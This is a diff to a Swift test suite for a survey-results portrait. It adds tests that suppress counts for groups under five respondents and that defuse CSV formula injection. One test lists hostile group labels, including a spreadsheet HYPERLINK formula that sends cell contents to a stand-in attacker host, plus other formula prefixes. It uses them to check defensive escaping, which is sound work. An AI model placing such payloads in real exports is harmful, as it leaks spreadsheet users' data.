@@ -1,3 +1,4 @@
+import CSVReader
 import Engagement
 import Foundation
 import Testing
@@ -19,6 +20,9 @@ struct SurveyPortraitTests {
         for key in checker.allKeys() {
             let value = truth[key] ?? 0
             if (1...4).contains(value) { #expect(shown[key] == nil, "\(key) = \(value) is shown") }
+            // A group of fewer than 5 respondents shows nothing, not even a 0
+            let groupSize = truth[RecoveryChecker.Key(question: PortraitRow.respondents, option: PortraitRow.respondents, group: key.group)] ?? 0
+            if (1...4).contains(groupSize) { #expect(shown[key] == nil, "\(key) = \(value) is shown in a group of \(groupSize)") }
             if let count = shown[key] {
                 #expect(count == value, "\(key) shows \(count), truly \(value)")
             } else if value < portrait.threshold {
@@ -95,7 +99,47 @@ struct SurveyPortraitTests {
         #expect(!json.contains("private note"))
         let suggestion = try #require(portrait.questions.first { $0.questionID == "suggestion" })
         #expect(suggestion.rows.map(\.option) == [PortraitRow.answered, PortraitRow.notAnswered])
-        #expect(suggestion.rows[0].all.count == 35)
+        // (the 3 other-platform riders show nothing, not even their 0 unanswered, so the total may be a complement)
+        #expect(suggestion.rows[0].all.count == 35 || suggestion.rows[0].all.suppressed)
+    }
+
+    @Test("A group of 4 who all answer alike: no count of theirs is shown, zeros included, nor can one be worked out")
+    func smallGroupRevealsNothing() throws {
+        // Given 4 Ele.me riders who all chose a (and their required follow-up yes), and 12 Meituan riders
+        // spread over a, b and c
+        let survey = try PortraitScenarios.survey()
+        var responses: [Response] = []
+        for _ in 0..<4 { responses.append(("eleme", try survey.validate(answers: PortraitScenarios.answers(p: "a"), consent: true))) }
+        for index in 0..<12 {
+            let option = ["a", "b", "c"][index % 3]
+            responses.append(("meituan", try survey.validate(answers: PortraitScenarios.answers(p: option), consent: true)))
+        }
+        // When the portrait is computed by branch
+        let portrait = SurveyPortrait.compute(survey, responses: responses, by: "branch")
+        // Then the Ele.me column shows no count and no share, in every row of every question and the profile mix
+        let eleme = try #require(portrait.groups.firstIndex(of: "eleme"))
+        let rows = [portrait.respondents] + portrait.questions.flatMap(\.rows)
+        for row in rows {
+            #expect(row.groups[eleme].count == nil && row.groups[eleme].share == nil && row.groups[eleme].suppressed, "\(row.option)")
+        }
+        // And the CSV says <5 on every Ele.me line
+        let lines = portrait.csv().split(separator: "\n").filter { $0.contains(",eleme,") }
+        #expect(lines.count == rows.count)
+        #expect(lines.allSatisfy { $0.split(separator: ",", omittingEmptySubsequences: false)[3] == "<5" })
+        // And no arithmetic on what is shown recovers any of their counts
+        Self.checkSafe(portrait, survey, truth: PortraitScenarios.trueCounts(survey, responses, by: "branch"))
+    }
+
+    @Test("Fewer than 5 respondents in all: nothing is shown at all")
+    func tinySurvey() throws {
+        let survey = try PortraitScenarios.survey()
+        let responses: [Response] = try (0..<4).map { _ in ("x", try survey.validate(answers: PortraitScenarios.answers(p: "b"), consent: true)) }
+        for by in ["branch", nil] as [String?] {
+            let portrait = SurveyPortrait.compute(survey, responses: responses, by: by)
+            for row in [portrait.respondents] + portrait.questions.flatMap(\.rows) {
+                #expect((row.groups + [row.all]).allSatisfy { $0.count == nil }, "\(row.option)")
+            }
+        }
     }
 
     @Test("A single hidden cell in a row gets a complement in that row", arguments: [1, 2, 3, 4])
@@ -249,5 +293,30 @@ struct SurveyPortraitTests {
         let responses: [Response] = try (0..<5).map { _ in ("=HYPERLINK(\"x\")", try survey.validate(answers: [:], consent: true)) }
         let csv = SurveyPortrait.compute(survey, responses: responses, by: "branch").csv()
         #expect(csv.contains("_respondents,_respondents,\"'=HYPERLINK(\"\"x\"\")\",5,1"))
+    }
+
+    @Test("Every hostile group label is defused in the CSV and reads back as it was")
+    func csvHostileLabels() throws {
+        // Given 5 riders in each branch named like a formula (and like broken CSV)
+        let labels = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
+                      "say \"hi\"", "a,b", "two\nlines"]
+        let survey = try PortraitScenarios.survey()
+        var responses: [Response] = []
+        for label in labels {
+            for _ in 0..<5 { responses.append((label, try survey.validate(answers: PortraitScenarios.answers(p: "b"), consent: true))) }
+        }
+        // When the portrait is written as CSV and read back
+        let csv = SurveyPortrait.compute(survey, responses: responses, by: "branch").csv()
+        let reader = CSVReader(bytes: Array(csv.utf8))
+        var groups: Set<String> = []
+        while let item = try reader.next() {
+            guard case .record(let record) = item else { Issue.record("unreadable: \(item)"); continue }
+            // Then no field starts like a formula, and the group column gives the label back
+            for field in record.fields {
+                if let first = field.unicodeScalars.first { #expect(!"=+-@\t\r".unicodeScalars.contains(first), "\(field.debugDescription)") }
+            }
+            groups.insert(CSVWriter.unguarded(record.fields[2]))
+        }
+        #expect(groups == Set(labels + ["group", SurveyPortrait.allGroups]))
     }
 }
